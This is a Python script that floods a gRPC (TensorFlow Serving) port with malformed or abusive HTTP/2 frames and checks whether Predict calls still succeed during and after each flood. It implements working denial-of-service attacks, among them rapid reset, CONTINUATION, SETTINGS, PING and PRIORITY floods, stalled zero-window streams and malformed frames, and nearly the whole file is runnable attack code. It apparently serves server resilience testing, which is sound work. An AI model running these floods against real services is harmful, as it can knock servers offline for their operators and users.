#!/usr/bin/env python3
"""Floods a gRPC port with HTTP/2 frames that no honest client sends, and asks between floods whether it answers.

  http2_floods.py ADDRESS MODEL INPUT FRAMES

Prints one line per flood: its name, whether the connection was closed, and what a call of Predict by grpcio answered
while the flood lasted and after it.
"""
import socket
import struct
import sys
import threading
import time

import grpc

from grpc_client import predict_request

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header as HPACK has it without a table and without Huffman's code."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


CALL = b"".join(
    literal(name, value)
    for name, value in ((":method", "POST"), (":scheme", "http"), (":path", "/tensorflow.serving.PredictionService/Predict"),
                        (":authority", "h"), ("content-type", "application/grpc"), ("te", "trailers")))


class Connection:
    """An HTTP/2 client that reads and forgets whatever comes."""

    def __init__(self, address, settings=b""):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=60)
        self.closed = False
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def read(self):
        try:
            while self.socket.recv(1 << 16):
                pass
        except OSError:
            pass
        self.closed = True

    def send(self, data):
        """False when the server has closed the connection."""
        try:
            self.socket.sendall(data)
            return not self.closed
        except OSError:
            self.closed = True
            return False

    def end(self):
        self.socket.close()


def repeated(connection, count, make, at_once=256):
    for begin in range(0, count, at_once):
        if not connection.send(b"".join(make(i) for i in range(begin, min(begin + at_once, count)))):
            return


def settings_flood(address, count):
    connection = Connection(address)
    repeated(connection, count, lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + i % 2)))
    return connection


def ping_flood(address, count):
    connection = Connection(address)
    repeated(connection, count, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)))
    return connection


def rapid_reset(address, count):
    connection = Connection(address)
    repeated(connection, count,
             lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, CALL) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08"), 32)
    return connection


def continuation_flood(address, count):
    connection = Connection(address)
    connection.send(frame(HEADERS, 0, 1, CALL))
    repeated(connection, count, lambda i: frame(CONTINUATION, 0, 1, literal("x%d" % i, "v" * 100)))
    return connection


def empty_continuations(address, count):
    connection = Connection(address)
    connection.send(frame(HEADERS, 0, 1, CALL))
    repeated(connection, count, lambda i: frame(CONTINUATION, 0, 1))
    return connection


def empty_data(address, count):
    connection = Connection(address)
    connection.send(frame(HEADERS, END_HEADERS, 1, CALL))
    repeated(connection, count, lambda i: frame(DATA, 0, 1))
    return connection


def priority_flood(address, count):
    connection = Connection(address)
    repeated(connection, count, lambda i: frame(PRIORITY, 0, 2 * i + 1, b"\0\0\0\0\x10"))
    return connection


def open_streams(address, count):
    """Calls that begin and never go on, and whose answers may not be sent."""
    connection = Connection(address, struct.pack(">HI", 4, 0))
    repeated(connection, min(count, 10000), lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, CALL), 32)
    return connection


def wrong_frames(address, count):
    connection = None
    for payload in (frame(HEADERS, END_HEADERS, 2, CALL), frame(HEADERS, END_HEADERS, 1, b"\xff" * 50),
                    frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 3, b"\xff\xff\xff\x00\x00\x00\x00\x00\x01",
                    frame(SETTINGS, 0, 0, b"\0"), frame(PING, 0, 0, b"\0"), frame(RST_STREAM, 0, 99, b"\0\0\0\0"),
                    frame(DATA, 0, 1, b"x" * 1000), frame(77, 255, 7, b"x")):
        connection = Connection(address)
        connection.send(payload)
    return connection


def main():
    address, model, name, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])

    def ask():
        """Asks as clients do: again after a moment when the server says that it has too much to do."""
        with grpc.insecure_channel(address) as channel:
            call = channel.unary_unary("/tensorflow.serving.PredictionService/Predict")
            for _ in range(100):
                try:
                    call(predict_request(model, name, [1.0]), timeout=60, wait_for_ready=True)
                    return "ok"
                except grpc.RpcError as error:
                    answer = error.code().name
                if answer != "RESOURCE_EXHAUSTED":
                    break
                time.sleep(0.2)
            return answer

    for flood in (settings_flood, ping_flood, rapid_reset, continuation_flood, empty_continuations, empty_data,
                  priority_flood, open_streams, wrong_frames):
        done = []
        thread = threading.Thread(target=lambda: done.append(flood(address, count)))
        thread.start()
        during = ask()
        thread.join()
        after = ask()
        print(flood.__name__, "closed" if done[0].closed else "open", during, after, flush=True)
        done[0].end()


if __name__ == "__main__":
    sys.exit(main())
